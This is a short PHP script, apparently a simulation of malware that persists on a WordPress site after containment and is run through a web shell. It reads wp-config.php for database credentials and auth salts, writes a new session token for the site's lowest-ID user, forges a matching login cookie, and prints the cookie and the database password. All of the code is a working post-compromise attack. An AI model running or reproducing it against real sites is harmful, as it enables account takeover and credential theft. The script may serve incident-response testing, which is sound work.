<?php
/*
 * What malware that survived a containment does, sent to the web shell: reads the configuration as it is now, writes itself a
 * session into the database and signs a cookie for it. Prints { cookie, password } after a line end.
 */
$config   = file_get_contents( $_SERVER['DOCUMENT_ROOT'] . '/wp-config.php' );
$constant = function ( $name ) use ( $config ) {
	preg_match( "/define\(\s*'" . $name . "',\s*'((?:[^'\\\\]|\\\\.)*)'/", $config, $found );
	return stripslashes( $found[1] ?? '' );
};
preg_match( "/table_prefix = '(\w+)'/", $config, $prefix );
list( $host, $port ) = explode( ':', $constant( 'DB_HOST' ) );
$database            = new mysqli( $host, $constant( 'DB_USER' ), $constant( 'DB_PASSWORD' ), $constant( 'DB_NAME' ), (int) $port );
$user                = $database->query( "SELECT ID, user_login, user_pass FROM {$prefix[1]}users ORDER BY ID LIMIT 1" )->fetch_assoc();
$address             = $database->query( "SELECT option_value FROM {$prefix[1]}options WHERE option_name = 'siteurl'" )->fetch_row()[0];

$token   = substr( bin2hex( random_bytes( 32 ) ), 0, 43 );
$expires = time() + 86400;
$rows    = $database->query( "SELECT meta_value FROM {$prefix[1]}usermeta WHERE user_id = {$user['ID']} AND meta_key = 'session_tokens'" )->fetch_row();
$all     = $rows ? unserialize( $rows[0], array( 'allowed_classes' => false ) ) : array();
$all[ hash( 'sha256', $token ) ] = array(
	'expiration' => $expires,
	'ip'         => $_SERVER['REMOTE_ADDR'],
	'ua'         => 'Mozilla/5.0',
	'login'      => time(),
);
$value = $database->real_escape_string( serialize( $all ) );
$database->query( "DELETE FROM {$prefix[1]}usermeta WHERE user_id = {$user['ID']} AND meta_key = 'session_tokens'" );
$database->query( "INSERT INTO {$prefix[1]}usermeta (user_id, meta_key, meta_value) VALUES ({$user['ID']}, 'session_tokens', '$value')" );

$plain  = 0 === strpos( $user['user_pass'], '$P$' ) || 0 === strpos( $user['user_pass'], '$2y$' );
$part   = $plain ? substr( $user['user_pass'], 8, 4 ) : substr( $user['user_pass'], -4 );
$key    = hash_hmac( 'md5', $user['user_login'] . "|$part|$expires|$token", $constant( 'AUTH_KEY' ) . $constant( 'AUTH_SALT' ) );
$mac    = hash_hmac( 'sha256', $user['user_login'] . "|$expires|$token", $key );
$cookie = 'wordpress_' . md5( $address ) . '=' . rawurlencode( $user['user_login'] . "|$expires|$token|$mac" );

echo "\n", json_encode( array( 'cookie' => $cookie, 'password' => $constant( 'DB_PASSWORD' ) ) );
